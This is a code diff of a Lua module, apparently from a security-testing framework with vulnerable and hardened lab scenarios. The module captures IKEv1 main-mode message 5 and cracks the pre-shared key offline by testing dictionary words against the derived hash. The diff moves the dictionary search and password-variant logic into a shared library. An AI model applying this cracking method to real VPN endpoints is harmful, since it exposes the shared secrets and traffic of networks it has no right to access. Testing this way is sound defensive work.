@@ -13,31 +13,15 @@ attack = {
   scenarios = { vulnerable = "ikev1-main-mode-crack", hardened = { "ikev1-main-mode-crack-strong" } },
 }
 
+local secrets = library "secrets"
+local goal = "find the shared secret"
+
 -- Parameters: dictionary = "common"; each = 100 (tries in one go), pause = "10ms" (between them).
-local dictionary, each, pause
+local plan, search
 local me, trial          -- our half of the exchange; message 5 and what it is tried with
-local tried = 0
 
 function on_start(params)
-  dictionary = words(params.dictionary or "common")
-  each = tonumber(params.each or "100")
-  pause = params.pause or "10ms"
-end
-
-local function find(message, type)
-  for _, payload in ipairs(message.payloads) do
-    if payload.type == type then return payload end
-  end
-end
-
-local function variants(word)
-  local capital = word:sub(1, 1):upper() .. word:sub(2)
-  local list = { word, capital, word .. "1", capital .. "1", word .. "123", capital .. "123", word .. "!", capital .. "!" }
-  for year = 2020, 2026 do
-    list[#list + 1] = word .. year
-    list[#list + 1] = capital .. year
-  end
-  return list
+  plan = secrets.plan(params, 100)
 end
 
 local function reply(p, message, payloads, note)
@@ -62,13 +46,6 @@ local function exchange(p, message)
   reply(p, message, { { number = 4, body = me.pair.public }, { number = 10, body = me.nonce } }, "our public value and nonce")
 end
 
--- Message 5: encrypted with what only the shared secret is missing from.
-local function take(p, message)
-  trial = { octets = p.payload, spi_i = message.spi_i, at = 1, iv = ikev1.iv(me.suite, me.g_xi, me.pair.public) }
-  learn("message 5", "IDii and HASH_I under a key that a word may give", "main mode, sent to whoever answers", p.payload)
-  timer.after("1ms", "try")
-end
-
 local function opens(guess)
   local skeyid = ikev1.skeyid(me.suite.prf, { psk = guess, ni = me.ni, nr = me.nonce })
   local keys = ikev1.keys(me.suite, { skeyid = skeyid, shared = me.shared, spi_i = trial.spi_i, spi_r = me.spi })
@@ -81,23 +58,27 @@ local function opens(guess)
   return expected == hash.body, id.body:sub(5)
 end
 
-function on_timer()
-  local last = math.min(trial.at + math.max(1, each // 22) - 1, #dictionary)
-  for i = trial.at, last do
-    for _, guess in ipairs(variants(dictionary[i])) do
-      tried = tried + 1
-      local found, id = opens(guess)
-      if found then
-        learn("identity", "the initiator is " .. id, "IDii inside message 5", id)
-        learn("psk", "the shared secret is \"" .. guess .. "\"", "try " .. tried .. " of a dictionary on message 5", guess)
-        return achieved("find the shared secret", true, "found at try " .. tried)
-      end
-    end
-  end
-  trial.at = last + 1
-  if trial.at <= #dictionary then return timer.after(pause, "try") end
-  achieved("find the shared secret", false, "not one of " .. tried .. " secrets of the dictionary")
+-- Message 5: encrypted with what only the shared secret is missing from.
+local function take(p, message)
+  trial = { octets = p.payload, spi_i = message.spi_i, iv = ikev1.iv(me.suite, me.g_xi, me.pair.public) }
+  learn("message 5", "IDii and HASH_I under a key that a word may give", "main mode, sent to whoever answers", p.payload)
+  local identity
+  search = secrets.search(plan, {
+    fits = function(guess)
+      local fits, id = opens(guess)
+      identity = id
+      return fits
+    end,
+    found = function(guess, tried)
+      learn("identity", "the initiator is " .. identity, "IDii inside message 5", identity)
+      learn("psk", "the shared secret is \"" .. guess .. "\"", "try " .. tried .. " of a dictionary on message 5", guess)
+      achieved(goal, true, "found at try " .. tried)
+    end,
+    none = function(tried) achieved(goal, false, "not one of " .. tried .. " secrets of the dictionary") end,
+  })
 end
+
+function on_timer() search() end
 
 function on_packet(p)
   if p.protocol ~= "IKE" then return end
@@ -118,5 +99,5 @@ function on_packet(p)
 end
 
 function on_finish()
-  if not trial then achieved("find the shared secret", false, "no main mode came as far as message 5") end
+  if not trial then achieved(goal, false, "no main mode came as far as message 5") end
 end
